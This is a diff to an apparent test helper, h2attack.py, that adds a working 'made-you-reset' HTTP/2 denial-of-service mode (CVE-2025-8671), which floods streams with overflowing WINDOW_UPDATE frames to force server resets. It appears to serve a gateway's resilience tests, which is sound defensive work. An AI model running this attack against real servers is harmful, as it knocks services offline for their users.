@@ -8,6 +8,7 @@ tests/netns/test-gwd-tls.sh:
     h2attack.py HOST PORT AUTHORITY slow-headers [CONNS [tls]]
     h2attack.py HOST PORT AUTHORITY zero-window N_STREAMS PATH [N_CONNS [SECONDS]]
     h2attack.py HOST PORT AUTHORITY slow-window PATH
+    h2attack.py HOST PORT AUTHORITY made-you-reset PATH [SECONDS [BATCH [DELAY]]]
 
 Sends the attack, then reads until the server closes (10 s at most) and
 prints one line: "goaway CODE frames N" when a GOAWAY arrived (N = frames
@@ -30,8 +31,20 @@ HEADERS and D DATA payload bytes seen, at most the 64 KiB connection window).
 "slow-window" is a legitimate slow reader: window 0, then 16 KiB
 WINDOW_UPDATEs (stream and connection) every 10 ms as DATA arrives; it
 prints "body BYTES sha256 HEX" of the response body.
+"made-you-reset" (CVE-2025-8671) makes the server reset the streams itself:
+BATCH (40) HEADERS asking for PATH, then on each stream a WINDOW_UPDATE of
+2^31-1, which overflows its window (a stream error FLOW_CONTROL_ERROR,
+RFC 9113 6.9.1); the next batch goes once the server's RST_STREAMs for this
+one ended (RST_STREAM, or a response whose END_STREAM came before the
+WINDOW_UPDATE; or after 1 s), for SECONDS (10) or until a GOAWAY. It prints
+"goaway CODE streams S resets R after T s" (S streams opened, R RST_STREAM
+received, T when the GOAWAY came), or "closed ..."/"open ..." without one.
+With DELAY (0), the WINDOW_UPDATEs follow their HEADERS DELAY seconds later,
+and the connection stays open DELAY seconds after the last reset came (so a
+test sees what the resets, not the close, did to the upstream requests).
 """
 import hashlib
+import select
 import selectors
 import threading
 import socket
@@ -240,6 +253,80 @@ def slow_window(host, port, authority, path):
     print(f"body {body} sha256 {h.hexdigest()}")
 
 
+def made_you_reset(host, port, authority, path, seconds, batch, delay):
+    sock = socket.create_connection((host, port), timeout=10)
+    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
+    sock.setblocking(False)
+    block = request_block(authority, path)
+    overflow = struct.pack(">I", 0x7fffffff)
+    sid, streams, resets, ended, awaited, sent_at = 1, 0, 0, 0, 0, 0.0
+    pending, buf, goaway, goaway_at, state = b"", b"", None, 0.0, "open"
+    start = time.time()
+    deadline = start + seconds
+    while state == "open":
+        now = time.time()
+        if goaway is not None and now > goaway_at + 2:
+            break
+        if goaway is None and now > deadline and (ended >= awaited or now > deadline + 2):
+            break
+        if goaway is None and not pending and now < deadline and \
+                (ended >= awaited or now - sent_at > 1):
+            out = []
+            for i in range(batch):
+                out.append(frame(HEADERS, END_STREAM | END_HEADERS, sid + 2 * i, block))
+            if delay:
+                sock.setblocking(True)
+                sock.sendall(b"".join(out))
+                sock.setblocking(False)
+                time.sleep(delay)
+                out = []
+            for i in range(batch):
+                out.append(frame(WINDOW_UPDATE, 0, sid + 2 * i, overflow))
+            sid += 2 * batch
+            streams += batch
+            awaited = ended + batch
+            sent_at = now
+            pending = b"".join(out)
+        if pending:
+            try:
+                pending = pending[sock.send(pending):]
+            except BlockingIOError:
+                pass
+            except OSError:
+                state = "closed"
+                break
+        r, _, _ = select.select([sock], [sock] if pending else [], [], 0.05)
+        if not r:
+            continue
+        try:
+            chunk = sock.recv(65536)
+        except BlockingIOError:
+            continue
+        except OSError:
+            chunk = b""
+        if not chunk:
+            state = "closed"
+            break
+        frs, buf = frames_of(buf + chunk)
+        for ftype, flags, _, payload in frs:
+            if ftype == RST_STREAM:
+                resets += 1
+                ended += 1
+            elif ftype in (HEADERS, DATA) and flags & END_STREAM:
+                ended += 1
+            elif ftype == GOAWAY and len(payload) >= 8 and goaway is None:
+                goaway = int.from_bytes(payload[4:8], "big")
+                goaway_at = time.time()
+    if delay and state == "open":
+        time.sleep(delay)
+    sock.close()
+    tail = f"streams {streams} resets {resets}"
+    if goaway is not None:
+        print(f"goaway {goaway} {tail} after {goaway_at - start:.1f} s")
+    else:
+        print(f"{state} {tail}")
+
+
 def main():
     host, port, authority, kind = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
     if kind == "slow-headers":
@@ -250,6 +337,12 @@ def main():
         nconns = int(sys.argv[7]) if len(sys.argv) > 7 else 1
         seconds = float(sys.argv[8]) if len(sys.argv) > 8 else 10
         zero_window(host, port, authority, int(sys.argv[5]), sys.argv[6], nconns, seconds)
+        return
+    if kind == "made-you-reset":
+        seconds = float(sys.argv[6]) if len(sys.argv) > 6 else 10
+        batch = int(sys.argv[7]) if len(sys.argv) > 7 else 40
+        delay = float(sys.argv[8]) if len(sys.argv) > 8 else 0
+        made_you_reset(host, port, authority, sys.argv[5], seconds, batch, delay)
         return
     if kind == "slow-window":
         slow_window(host, port, authority, sys.argv[5])
